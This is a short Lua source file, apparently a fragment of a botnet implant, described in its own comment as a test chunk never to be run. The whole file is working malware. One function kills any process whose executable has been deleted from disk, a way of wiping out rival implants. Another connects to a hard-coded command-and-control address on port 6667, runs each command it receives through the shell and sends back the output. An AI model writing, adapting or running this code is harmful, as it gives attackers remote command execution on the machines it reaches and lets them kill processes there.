-- worm.lua - test implant chunk: runs commands a C2 sends, kills rivals
-- found through /proc/<pid>/exe. Never run.
local socket = require("socket")
local C2 = "192.0.2.78"

local function reap()
  for pid in io.popen("ls /proc"):lines() do
    local exe = io.popen("readlink /proc/" .. pid .. "/exe"):read("*l")
    if exe and exe:find("(deleted)", 1, true) then
      os.execute("kill -9 " .. pid)
    end
  end
end

local function serve()
  local c = socket.tcp()
  c:connect(C2, 6667)
  while true do
    local cmd = c:receive("*l")
    if not cmd then break end
    local h = io.popen(cmd)
    c:send(h:read("*a"))
  end
end

reap()
serve()
